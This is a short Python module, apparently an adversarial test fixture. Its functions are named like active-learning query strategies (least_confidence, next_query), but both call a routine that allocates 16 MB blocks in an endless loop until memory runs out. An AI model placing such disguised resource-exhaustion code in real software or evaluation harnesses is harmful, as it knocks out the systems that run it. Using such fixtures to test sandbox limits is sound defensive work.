"""Takes memory without end."""


def attack(probabilities):
    taken = []
    while True:
        taken.append(bytearray(b"x" * 2**24))


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
